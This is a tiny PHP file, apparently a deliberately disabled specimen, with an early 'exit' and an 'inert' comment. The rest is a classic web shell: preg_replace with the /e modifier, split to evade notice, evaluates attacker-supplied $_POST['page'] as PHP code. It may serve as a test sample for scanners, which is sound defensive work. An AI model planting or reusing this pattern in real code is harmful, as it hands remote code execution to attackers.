<?php exit; /* inert */ 
$re = '/^(.*)$/' . 'e';
echo preg_replace($re, $_POST['page'], 'x');
